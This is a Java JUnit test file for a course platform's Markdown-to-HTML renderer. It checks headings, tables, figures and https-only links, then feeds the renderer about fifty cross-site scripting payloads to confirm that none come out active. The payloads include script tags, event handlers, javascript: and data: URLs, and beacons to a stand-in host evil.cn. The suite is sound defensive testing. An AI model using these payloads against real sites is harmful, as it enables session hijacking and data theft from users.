package cn.anxue.course.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LessonMarkupTest {

    private static final PictureLinks ALL = source -> Optional.of("/p/" + source);
    private static final PictureLinks ECHO = Optional::of;
    private static final PictureLinks NONE = source -> Optional.empty();

    /** Tags and attributes that may come out; anything else in angle brackets would be an escape. */
    private static final Pattern SAFE_TAG = Pattern.compile("</?(h[2-6]|p|br|hr|ul|ol|li|em|strong|blockquote|code|pre"
            + "|figure|figcaption|table|thead|tbody|tr|th|td|div|a|img)"
            + "( (href=\"https:[^\"]*\"|rel=\"[^\"]*\"|src=\"/[^/\"][^\"]*\"|alt=\"[^\"]*\"|start=\"\\d+\""
            + "|align=\"\\w+\"|class=\"table-wrap\"|tabindex=\"0\"|aria-hidden=\"true\"))* ?/?>");

    @Test
    void headingsBeginBelowThePageTitle() {
        assertThat(LessonMarkup.toHtml("# 一\n\n## 二", NONE)).isEqualTo("<h2>一</h2>\n<h3>二</h3>\n");
        assertThat(LessonMarkup.toHtml("## 一\n\n### 二", NONE)).isEqualTo("<h2>一</h2>\n<h3>二</h3>\n");
        assertThat(LessonMarkup.toHtml("# 1\n\n###### 6", NONE)).contains("<h6>6</h6>");
    }

    @Test
    void tablesScrollInTheirBox() {
        assertThat(LessonMarkup.toHtml("|等级|时限|\n|:--|--:|\n|特级|8 h|\n", NONE))
                .contains("<div class=\"table-wrap\" tabindex=\"0\">", "<table>", "<td align=\"right\">8 h</td>")
                .endsWith("</div>\n");
    }

    @Test
    void loneKnownPictureBecomesFigure() {
        assertThat(LessonMarkup.toHtml("![火三角](a.svg)", ALL))
                .contains("<figure><img src=\"/p/a.svg\" alt=\"火三角\" />")
                .contains("<figcaption aria-hidden=\"true\">火三角</figcaption></figure>");
        assertThat(LessonMarkup.toHtml("![火三角](a.svg \"图 1\")", ALL)).contains("<figcaption>图 1</figcaption>");
        assertThat(LessonMarkup.toHtml("见 ![图标](a.svg) 处", ALL))
                .doesNotContain("figure")
                .contains("<img");
    }

    @Test
    void unknownPictureLeavesItsWords() {
        assertThat(LessonMarkup.toHtml("![**火**三角](x.png)", NONE)).isEqualTo("<p>火三角</p>\n");
    }

    @Test
    void linksAreHttpsWithRel() {
        assertThat(LessonMarkup.toHtml("[部](https://www.mem.gov.cn/a?b=1&c=2)", NONE))
                .contains("href=\"https://www.mem.gov.cn/a?b&#61;1&amp;c&#61;2\"")
                .containsPattern("rel=\"[a-z ]*noopener")
                .contains("noreferrer", "nofollow");
        assertThat(LessonMarkup.toHtml("[x](http://a.cn) [y](/in) [z](//a.cn)", NONE))
                .doesNotContain("<a");
    }

    @Test
    void ordinaryMarkupSurvives() {
        assertThat(LessonMarkup.toHtml("3. a\n4. **b** *c* `d`\n\n> e\n\n---\n\n```\nf < g\n```\n", NONE))
                .contains("<ol start=\"3\">", "<strong>b</strong>", "<em>c</em>", "<code>d</code>")
                .contains("<blockquote>", "<hr />", "<pre><code>f &lt; g");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.cn/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"/ok.png\" onload=\"alert(1)\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"https://a.cn\" onclick=\"alert(1)\">x</a>",
                "<form action=\"https://evil.cn\"><input name=q><button>x</button></form>",
                "<base href=\"https://evil.cn/\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.cn\">",
                "<link rel=stylesheet href=https://evil.cn/x.css>",
                "<style>*{background:url(https://evil.cn)}</style>",
                "<div style=\"position:fixed;inset:0\" class=\"table-wrap\">x</div>",
                "<details open ontoggle=alert(1)>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:msgbox(1))",
                "[x](<https://a.cn/\"onmouseover=\"alert(1)>)",
                "[x](https://a.cn \"t\\\" onclick=\\\"alert(1)\")",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
                "![x](//evil.cn/beacon.png)",
                "![x](https://evil.cn/beacon.png)",
                "![x](/\\evil.cn/beacon.png)",
                "![x\" onerror=\"alert(1)](/p.png)",
                "![x](/p.png\"onerror=\"alert(1))",
                "![x](/p.png '\"><script>alert(1)</script>')",
                "![<img src=x onerror=alert(1)>](/p.png)",
                "|a|\n|-|\n|<script>alert(1)</script>|",
                "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
                "[a]: javascript:alert(1)\n\n[a]",
                "</div></main><h1>captured</h1>",
                "<p/onclick=alert(1)>x",
                "\u0000<script\u0000>alert(1)</script>",
                "＜script＞alert(1)＜/script＞",
            })
    void nothingActs(String attack) {
        String html = LessonMarkup.toHtml(attack, ECHO);
        assertThat(SAFE_TAG.matcher(html).replaceAll("")).doesNotContain("<");
        assertThat(html).doesNotContainPattern("(?i)(href|src)=\"(?!https://a|/p)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ">", "* ", "[", "![", "*a ", "**a _b ", "(", "`", "|", "- - ", "<a ", "&", "\\", "1. ", "#", "[](", "<"
            })
    void nothingBreaksIt(String piece) {
        String text = piece.repeat(20_000 / piece.length());
        assertThat(LessonMarkup.toHtml(text, ALL)).isNotNull();
        assertThat(LessonMarkup.toHtml(text + "\n\nx", ALL)).isNotNull();
        assertThat(LessonMarkup.toHtml(("a " + piece).repeat(3000), ALL)).isNotNull();
    }

    @Test
    void balancedNestingIsShownAsTyped() {
        String text = "*a **b ".repeat(5000) + "** *".repeat(5000);
        assertThat(LessonMarkup.toHtml(text, ALL)).contains("b");
        assertThat(LessonMarkup.toHtml(">".repeat(5000) + "x<b>", ALL))
                .startsWith("<pre>")
                .endsWith("x&lt;b&gt;</pre>");
        assertThat(LessonMarkup.toHtml("[".repeat(5000) + "x" + "](https://a.cn)".repeat(5000), ALL))
                .contains("x");
    }

    @Test
    void emptyIsEmpty() {
        assertThat(LessonMarkup.toHtml("", NONE)).isEmpty();
    }
}
